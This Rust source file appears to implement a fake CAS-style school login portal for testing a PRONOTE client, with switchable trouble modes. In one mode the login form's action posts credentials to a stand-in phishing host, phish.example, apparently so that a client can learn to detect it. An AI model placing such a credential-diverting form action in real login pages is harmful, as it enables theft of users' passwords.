//! A fake portal with one form, in the HTML of twenty years ago.

use super::{super::http::Reply, Trouble, html, people::Person, visit::Visit};

const COOKIE: &str = "PHPSESSID";

/// Answers for the portal.
pub fn answer(visit: &Visit<'_>) -> Option<Reply> {
    match visit.route() {
        ("GET", "/cas/login") => {
            let service = visit.parameter("service").unwrap_or_default();
            Some(match visit.who(COOKIE) {
                Some(person) => visit.hand_over(person, &service),
                None => login(visit, ""),
            })
        }
        ("GET", "/accueil") => Some(html::page(
            "Accueil",
            "<h1>Connexion réussie</h1><p><a href=/pronote>Ouvrir PRONOTE</a></p>",
        )),
        ("GET", _) => Some(login(visit, "")),
        ("POST", _) => Some(check(visit)),
        _ => None,
    }
}

fn login(visit: &Visit<'_>, error: &str) -> Reply {
    let id = visit.portals.state().token("execution");
    visit.portals.state().expected.insert(id.clone(), String::new());
    let hidden = html::hidden(&[("execution", &id), ("geolocation", "")]);
    let password = match visit.portals.options.trouble {
        Trouble::Changed => "",
        _ => "<TR><TD>Mot de passe<TD><INPUT NAME=password TYPE=password SIZE=20>",
    };
    // No action: it goes where it came from. The form begins inside the table.
    let action = match visit.portals.options.trouble {
        Trouble::Phishing => " ACTION=https://phish.example/get",
        _ => "",
    };
    html::page(
        "Identification",
        &format!(
            "<TABLE BORDER=0><FORM ID=fm1 METHOD=POST{action}><TR><TD>Identifiant<TD><INPUT NAME=username SIZE=20 MAXLENGTH=30>{password}<TR><TD>{hidden}{error}<INPUT TYPE=RESET NAME=clear VALUE=Effacer><INPUT TYPE=SUBMIT NAME=submit VALUE=\"Se connecter\"></FORM></TABLE>"
        ),
    )
}

fn check(visit: &Visit<'_>) -> Reply {
    let is_ours = visit.portals.state().expected.remove(visit.field("execution")).is_some()
        && visit.has_field("geolocation");
    match Person::find(visit.field("username"), visit.field("password")).filter(|_| is_ours) {
        Some(person) => {
            let home = Reply::html(
                200,
                format!(
                    "<html><script>window.location.replace(\"{}\");</script></html>",
                    visit.local("/accueil")
                ),
            );
            visit.welcome(person, COOKIE, "", home)
        }
        // Not a word about it, as some do.
        None => login(visit, ""),
    }
}
